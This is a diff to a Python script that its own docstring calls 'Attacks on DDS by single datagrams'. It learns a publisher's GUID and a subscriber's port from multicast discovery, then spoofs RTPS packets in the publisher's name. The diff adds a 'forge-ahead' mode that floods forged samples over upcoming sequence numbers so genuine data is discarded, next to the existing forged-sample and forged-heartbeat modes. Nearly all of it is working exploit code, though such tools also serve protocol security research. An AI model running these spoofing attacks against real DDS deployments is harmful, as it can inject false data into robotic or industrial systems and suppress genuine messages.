@@ -1,10 +1,12 @@
-"""Attacks on DDS by single datagrams: rtps.py forge|skip PUBLISHER SUBSCRIBER.
+"""Attacks on DDS by single datagrams: rtps.py forge|forge-ahead|skip PUBLISHER SUBSCRIBER OWN_ADDRESS.
 
 What they need is announced to everybody by multicast: the publisher's name (GUID) and the subscriber's port. The publisher's writers have numbers
 that can be guessed, so all of them are tried.
 
-forge   a sample in the publisher's name, with a far sequence number: the subscriber takes it, and what comes before that number is old
-skip    a heartbeat in the publisher's name: samples before a far sequence number are no longer to be had
+forge         a sample in the publisher's name, with a far sequence number: the subscriber takes it, and what comes before that number is old
+forge-ahead   samples in the publisher's name with all sequence numbers of the next seconds: a reliable subscriber takes them, and the genuine
+              ones are repetitions
+skip          a heartbeat in the publisher's name: samples before a far sequence number are no longer to be had
 """
 
 import signal
@@ -19,6 +21,9 @@ DEFAULT_UNICAST_LOCATOR = 0x31
 WRITERS = range(1, 1024)
 KIND_WRITER_WITHOUT_KEY = 0x03
 FAR = 100_000
+AHEAD = range(1, 601)
+WRITERS_AHEAD = range(1, 9)
+BURST = 100
 FIRST_FORGED = 1_000_000_000
 
 
@@ -59,12 +64,12 @@ def writer_id(number):
     return number.to_bytes(3, "big") + bytes([KIND_WRITER_WITHOUT_KEY])
 
 
-def sample(writer, number):
+def sample(writer, sequence, number):
     """A DATA submessage to whatever reader listens, as the adapters of DDS serialize a message."""
     body = b"forged"
     payload = b"\x00\x01\x00\x00" + struct.pack("<QII", FIRST_FORGED + number, zlib.crc32(body), len(body)) + body
     payload += bytes(-len(payload) % 4)
-    content = struct.pack("<HH", 0, 16) + bytes(4) + writer + sequence_number(FAR + number) + payload
+    content = struct.pack("<HH", 0, 16) + bytes(4) + writer + sequence_number(sequence) + payload
     return struct.pack("<BBH", 0x15, 0x05, len(content)) + content
 
 
@@ -79,12 +84,17 @@ def main():
     header, port = learn(listen(address), publisher, subscriber)
     time.sleep(1.5)
     sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    make = {"forge": sample, "skip": heartbeat}[what]
-    for number in range(3):
-        for writer in WRITERS:
-            sender.sendto(header + make(writer_id(writer), number), (subscriber, port))
-        time.sleep(0.1)
-    print(f"{what}: 3 times to port {port} in the name of {header[8:].hex()}, with {len(WRITERS)} guesses each")
+    if what == "forge":
+        datagrams = [sample(writer_id(writer), FAR + number, number) for number in range(3) for writer in WRITERS]
+    elif what == "forge-ahead":
+        datagrams = [sample(writer_id(writer), sequence, sequence) for sequence in AHEAD for writer in WRITERS_AHEAD]
+    else:
+        datagrams = [heartbeat(writer_id(writer), number) for number in range(3) for writer in WRITERS]
+    for number, datagram in enumerate(datagrams):
+        sender.sendto(header + datagram, (subscriber, port))
+        if number % BURST == 0:
+            time.sleep(0.01)
+    print(f"{what}: {len(datagrams)} datagrams to port {port} in the name of {header[8:].hex()}")
 
 
 if __name__ == "__main__":
